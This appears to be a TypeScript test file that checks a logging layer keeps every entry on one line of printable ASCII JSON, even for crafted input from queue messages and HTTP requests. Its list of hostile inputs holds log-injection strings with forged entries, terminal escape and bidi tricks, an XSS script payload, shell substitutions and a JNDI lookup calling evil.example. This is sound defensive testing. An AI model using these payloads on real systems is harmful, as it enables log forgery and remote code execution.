// The log: whatever somebody writes into what is logged, an entry stays one line of JSON in
// printable ASCII, and no other entry can be forged with it.
import assert from 'node:assert/strict';
import { mock, test } from 'node:test';
import { operations } from '../../../bindings/generated/operations.ts';
import { buryMessages, performMessages } from '../../../worker-shim/triggers/queue.ts';
import { consoleLog, errorText, type LogEntry } from '../../../worker-shim/world.ts';
import { openFleet } from '../faults/support.ts';
import { memoryPorts, memoryWorld } from '../support/memory_ports.ts';
import { scriptedCore } from '../support/scripted_core.ts';
import { openSqliteDb } from '../support/sqlite_db.ts';

const forged = '{"event":"request","operation":"token_create","status":201}';
const hostile: readonly string[] = [
  `x\n${forged}`,
  `x\r\n${forged}`,
  `x\r${forged}`,
  `x\u0085${forged}`,
  `x\u2028${forged}`,
  `x\u2029${forged}`,
  `x\u000b${forged}\u000c`,
  `"}\n${forged}`,
  `","event":"request","status":"200`,
  `\\"}${forged}`,
  '\u001b[2J\u001b[1;31mred',
  '\u001b]0;title\u0007',
  '\u009b31mred',
  '\u0008\u0008\u0008gone',
  '\u0000nul\u007f',
  '\u202egnp.exe\u202c\u2066x\u2069',
  '\ufeffbom\u200b',
  '\ud800 half of a pair',
  '\u{1f600} and a whole one',
  '%0a%0d',
  '</script><script>alert(1)</script>',
  '$(id) `id` \x24{jndi:ldap://evil.example/x}',
];

/** The lines that these entries make. */
function linesOf(entries: readonly LogEntry[]): string[] {
  const printed = mock.method(console, 'log', () => undefined);
  try {
    for (const entry of entries) consoleLog(entry);
    return printed.mock.calls.map(({ arguments: [line] }) => String(line));
  } finally {
    printed.mock.restore();
  }
}

function assertLines(entries: readonly LogEntry[]): void {
  const lines = linesOf(entries);
  assert.equal(lines.length, entries.length);
  for (const [index, line] of lines.entries()) {
    assert.match(line, /^[ -~]+$/);
    const wanted = JSON.parse(JSON.stringify(entries[index]));
    assert.deepEqual(JSON.parse(line), wanted, 'nothing is lost or added');
  }
}

test('an entry is one line of printable ASCII that says what was logged', () => {
  for (const text of hostile) {
    assertLines([
      { event: 'a', value: text, n: 1 },
      { event: text },
      { event: 'b', [text]: 'x' },
      { event: 'c', error: errorText(new Error(text, { cause: new Error(text) })) },
    ]);
  }
});

test('messages of the queue that hold anything are one line each', async () => {
  const ports = memoryPorts({ db: openSqliteDb() });
  const core = scriptedCore(({ input }) => {
    throw new Error(input.kind === 'effect' ? input.effect_key : 'none');
  });
  const world = memoryWorld(core, ports, { CONFIG_STORE: 'd1' });
  const message = (body: unknown) => ({
    ...{ body, attempts: 1, ack: () => undefined, retry: () => undefined },
  });
  const bodies = [...hostile.map((key) => ({ key })), ...hostile, null, 7, [], { key: null }];
  await performMessages(world, bodies.map(message));
  await buryMessages(world, bodies.map(message));
  assert.ok(world.logged.length > bodies.length);
  assertLines(world.logged);
});

test('requests that hold anything are one line each, and name real operations', async () => {
  const fleet = openFleet();
  const names = new Set<string>(operations.map(({ name }) => name));
  for (const text of hostile) {
    const part = encodeURIComponent(text.toWellFormed());
    for (const target of [`/${part}`, `/api/v1/platforms/${part}?${part}=${part}`]) {
      await fleet.api('GET', target, undefined, part);
      await fleet.api('POST', '/api/v1/platforms', { platformId: text, name: text });
    }
  }
  assert.ok(fleet.logged.length >= 4 * hostile.length);
  assertLines(fleet.logged);
  for (const entry of fleet.logged) {
    const said = JSON.stringify(entry);
    assert.ok(names.has(String(entry.operation)) || entry.operation === 'route_unknown', said);
    assert.ok(!said.includes('evil.example') && !said.includes('forged'), said);
  }
});
